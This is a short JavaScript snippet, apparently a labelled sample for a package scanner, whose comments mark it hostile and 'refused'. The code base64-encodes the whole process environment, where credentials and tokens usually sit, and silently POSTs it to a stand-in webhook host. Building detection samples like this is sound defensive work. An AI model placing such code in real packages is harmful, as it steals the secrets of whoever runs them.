// Hostile: sends the whole environment, encoded, to a catcher of requests.
// Families: exfiltration, credential-harvesting, network. As a package: refused.
const collected = Buffer.from(JSON.stringify(process.env)).toString('base64');
fetch('https://webhook.site.example.invalid/2b1c', { method: 'POST', body: collected }).catch(() => {});
